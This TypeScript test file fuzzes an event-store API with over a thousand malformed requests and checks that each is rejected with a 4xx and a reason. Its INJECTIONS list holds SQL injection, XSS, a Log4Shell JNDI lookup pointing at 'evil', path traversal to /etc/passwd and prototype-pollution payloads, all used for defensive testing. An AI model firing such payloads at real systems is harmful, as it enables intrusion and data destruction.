import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { EVENT_TYPES, catalog, type EventType } from '@redstream/schema';
import { sampleData } from '@redstream/domain';
import type { EventStore } from '@redstream/event-store';
import { ADMIN_KEY, bearer, eventCount, openTestStore, testApi, type TestApi } from './testing/harness.ts';

/**
 * A hostile client: over a thousand malformed requests. Each must be answered with a 4xx and a
 * message, or (when the envelope is a valid batch) a 200 whose every fact is rejected with a
 * reason — DESIGN.md's per-fact contract. None may be a 5xx, and nothing may be appended.
 */
let store: EventStore;
let api: TestApi;

beforeAll(async () => {
  ({ store } = await openTestStore());
  api = await testApi(store, [], { rateLimitPerMinute: 1_000_000 });
});
afterAll(async () => {
  await api?.app.close();
  await store?.close();
});

interface Attack {
  name: string;
  url?: string;
  contentType?: string | undefined;
  body: string | Buffer;
}

/** Deterministic pseudo-random numbers, so a failure can be replayed. */
function prng(seed: number) {
  return () => {
    seed = (seed * 1664525 + 1013904223) >>> 0;
    return seed / 2 ** 32;
  };
}
const random = prng(20250618);
const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;

const INJECTIONS = [
  "'; DROP TABLE events; --",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  '../../../../etc/passwd',
  '{{7*7}}',
  '$where: sleep(1000)',
  'order-1\u0000hidden',
  '%00%27%22',
  'streamer-1/../../admin',
  '\u202eevil',
  'x'.repeat(300),
];
const WRONG_VALUES: unknown[] = [null, true, 12.5, -1, 'text', [], {}, [1, 2], { nested: { deep: 1 } }, 1e308, '', ' ', '2025-13-45', '🙂'];
const uuid = () => '00000000-0000-4000-8000-' + Math.floor(random() * 1e12).toString(16).padStart(12, '0');

const required = (type: EventType): string[] => (z.toJSONSchema(catalog[type].schema, { unrepresentable: 'any' }) as { required?: string[] }).required ?? [];
const json = (value: unknown) => JSON.stringify(value);
const events = (body: unknown, name: string): Attack => ({ name, contentType: 'application/json', body: typeof body === 'string' ? body : json(body) });

function attacks(): Attack[] {
  const list: Attack[] = [];
  const valid = (type: EventType) => ({ id: uuid(), type, data: { ...sampleData[type] } });

  // Bad JSON: truncations and garbage.
  const text = json([valid('SaleRecorded'), valid('ParkRegistered')]);
  for (let i = 0; i < 150; i++) list.push(events(text.slice(0, 1 + Math.floor(random() * (text.length - 2))), 'truncated JSON'));
  for (let i = 0; i < 30; i++) list.push(events(Buffer.from(Array.from({ length: 64 }, () => Math.floor(random() * 256))).toString('latin1'), 'garbage bytes'));
  for (const s of ['', ' ', 'null', 'undefined', 'NaN', '[,]', '[1,]', "{'a':1}", '[{"id":}]', '\uFEFF[]x', '[]]', '{"__proto__":{"admin":true}}']) list.push(events(s, `bad JSON ${s}`));

  // Wrong content type.
  for (const contentType of ['text/plain', 'application/xml', 'multipart/form-data; boundary=x', 'application/x-www-form-urlencoded', 'text/csv', undefined, 'application/json-patch+json', 'image/png']) {
    for (let i = 0; i < 5; i++) list.push({ name: `content type ${contentType}`, contentType, body: text });
  }

  // Not a batch.
  for (const body of [{}, 1, 'string', true, { facts: [] }, { id: uuid(), type: 'SaleRecorded', data: sampleData.SaleRecorded }]) list.push(events(json(body), 'not an array'));
  list.push(events(Array.from({ length: 1001 }, () => valid('FarmerPaid')), 'too many facts'));

  // Wrong types and missing fields, for every field of every fact type.
  for (const type of EVENT_TYPES) {
    for (const field of Object.keys(sampleData[type])) {
      for (let i = 0; i < 4; i++) {
        const f = valid(type);
        const wrong = pick(WRONG_VALUES.filter((v) => typeof v !== typeof (sampleData[type] as Record<string, unknown>)[field] || v === '' || v === ' '));
        (f.data as Record<string, unknown>)[field] = wrong;
        list.push(events([f], `${type}.${field} = ${json(wrong)}`));
      }
    }
    for (const field of required(type)) {
      const f = valid(type);
      delete (f.data as Record<string, unknown>)[field];
      list.push(events([f], `${type} without ${field}`));
    }
    // Envelope problems.
    list.push(events([{ ...valid(type), id: 'not-a-uuid' }], 'bad id'));
    list.push(events([{ type, data: sampleData[type] }], 'no id'));
    list.push(events([{ id: uuid(), type }], 'no data'));
    list.push(events([{ ...valid(type), extra: 1 }], 'extra envelope field'));
    list.push(events([{ ...valid(type), data: { ...sampleData[type], admin: true } }], 'extra data field'));
    list.push(events([{ ...valid(type), data: [sampleData[type]] }], 'data is an array'));
  }

  // Unknown types.
  for (const type of ['SaleExploded', 'saleRecorded', 'SALERECORDED', '', 'constructor', '__proto__', 'toString', 'x'.repeat(65), ...INJECTIONS]) {
    for (let i = 0; i < 3; i++) list.push(events([{ id: uuid(), type, data: sampleData.SaleRecorded }], `unknown type ${type.slice(0, 20)}`));
  }

  // Injection-looking values where the schema refuses them (ids, codes, dates) ...
  for (const value of INJECTIONS) {
    list.push(events([{ ...valid('ParkRegistered'), data: { ...sampleData.ParkRegistered, parkId: value } }], 'injection in id'));
    list.push(events([{ ...valid('SaleRecorded'), data: { ...sampleData.SaleRecorded, streamerId: value } }], 'injection in streamer id'));
    list.push(events([{ ...valid('ParkRegistered'), data: { ...sampleData.ParkRegistered, regionCode: value } }], 'injection in region'));
    list.push(events([{ ...valid('FarmerPaid'), data: { ...sampleData.FarmerPaid, paidOn: value } }], 'injection in date'));
    list.push(events([{ id: value, type: 'SaleRecorded', data: sampleData.SaleRecorded }], 'injection in fact id'));
    // ... and in free text, where the business rules refuse the fact (no streamer s-1 here).
    list.push(events([{ ...valid('SaleRecorded'), data: { ...sampleData.SaleRecorded, product: value.slice(0, 200) } }], 'injection in product'));
  }

  // Huge strings.
  for (const size of [201, 10_000, 1_000_000]) {
    for (const field of ['name', 'parkId']) list.push(events([{ ...valid('ParkRegistered'), data: { ...sampleData.ParkRegistered, [field]: 'a'.repeat(size) } }], `huge ${field}`));
    list.push(events([{ id: uuid(), type: 'S'.repeat(size), data: {} }], 'huge type'));
  }
  list.push(events([{ ...valid('SaleRecorded'), data: { ...sampleData.SaleRecorded, amountFen: Number.MAX_SAFE_INTEGER + 2 } }], 'unsafe integer'));
  list.push(events(`[${'['.repeat(5000)}${']'.repeat(5000)}]`, 'deep nesting'));

  // 10 MB bodies.
  for (let i = 0; i < 4; i++) list.push(events(json([{ ...valid('ParkRegistered'), data: { ...sampleData.ParkRegistered, name: 'x'.repeat(10 * 1024 * 1024) } }]), '10 MB body'));
  list.push(events(json(Array.from({ length: 70_000 }, () => valid('FarmerPaid'))), '10 MB of facts'));

  // The import route.
  const imp = (url: string, contentType: string | undefined, body: string, name: string): Attack => ({ name, url, contentType, body });
  list.push(imp('/v1/import', 'application/json', text, 'import as json'));
  list.push(imp('/v1/import', 'application/x-ndjson', '', 'empty NDJSON'));
  list.push(imp('/v1/import?type=SaleRecorded', 'text/csv', '', 'empty CSV'));
  list.push(imp('/v1/import', undefined, '', 'import without content type'));
  list.push({ name: 'events without body', contentType: undefined, body: '' });
  list.push(imp('/v1/import', 'text/csv', 'orderId\no-1\n', 'CSV without type'));
  list.push(imp('/v1/import?type=SaleExploded', 'text/csv', 'orderId\no-1\n', 'CSV with unknown type'));
  list.push(imp('/v1/import?type=SaleRecorded', 'text/csv', "orderId,'; DROP TABLE events; --\no-1,1\n", 'CSV with unknown column'));
  list.push(imp('/v1/import?format=xml', 'application/x-ndjson', text, 'unknown format'));
  for (let i = 0; i < 20; i++) list.push(imp('/v1/import', 'application/x-ndjson', `${text.slice(0, Math.floor(random() * text.length))}\n{"x":1}\n${pick(INJECTIONS)}\n`, 'NDJSON garbage'));
  for (let i = 0; i < 20; i++) list.push(imp('/v1/import?type=SaleRecorded', 'text/csv', `orderId,streamerId,occurredAt,product,category,quantity,amountFen\n"${pick(INJECTIONS)},x,y\n,,,,,,\n`, 'CSV garbage'));
  return list;
}

describe('hostile input', () => {
  it('answers over a thousand malformed requests with a 4xx and a reason, never a 5xx, appending nothing', async () => {
    const list = attacks();
    expect(list.length).toBeGreaterThanOrEqual(1000);
    const before = await eventCount(store);
    const failures: string[] = [];
    const statusCounts: Record<number, number> = {};
    for (const attack of list) {
      const headers: Record<string, string> = { ...bearer(ADMIN_KEY) };
      if (attack.contentType) headers['content-type'] = attack.contentType;
      const response = await api.app.inject({ method: 'POST', url: attack.url ?? '/v1/events', headers, payload: attack.body });
      statusCounts[response.statusCode] = (statusCounts[response.statusCode] ?? 0) + 1;
      const body = response.json() as { message?: string; results?: Array<{ status: string; reason?: string }>; accepted?: number; rejected?: number; lines?: number };
      // every answer is a 4xx with a message; a 422 also carries each fact's or line's reason
      const explained =
        response.statusCode >= 400 &&
        response.statusCode < 500 &&
        typeof body.message === 'string' &&
        body.message.length > 0 &&
        (response.statusCode !== 422 || (body.results ? body.results.every((r) => r.status === 'rejected' && r.reason) : body.accepted === 0 && body.rejected === body.lines));
      if (!explained) failures.push(`${attack.name}: ${response.statusCode} ${response.body.slice(0, 200)}`);
    }
    expect(failures).toEqual([]);
    expect(Object.keys(statusCounts).filter((s) => Number(s) >= 500)).toEqual([]);
    expect(await eventCount(store)).toBe(before);
    console.log(`hostile requests: ${list.length}, answers by status: ${JSON.stringify(statusCounts)}`);
  });
});
